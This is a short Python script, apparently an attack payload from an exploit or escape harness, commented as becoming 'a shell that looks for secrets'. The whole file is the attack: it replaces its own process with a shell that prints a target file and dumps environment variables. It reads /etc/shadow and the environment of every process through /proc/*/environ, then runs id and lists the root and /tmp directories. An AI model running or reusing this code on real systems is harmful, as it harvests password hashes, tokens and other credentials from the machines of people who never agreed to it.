# becomes a shell that looks for secrets
import os
from attempt import goal
os.execv("/bin/sh", ["sh", "-c", "cat %s; env; cat /etc/shadow /proc/*/environ; id; ls -a / /tmp; echo ok" % goal["file"]])
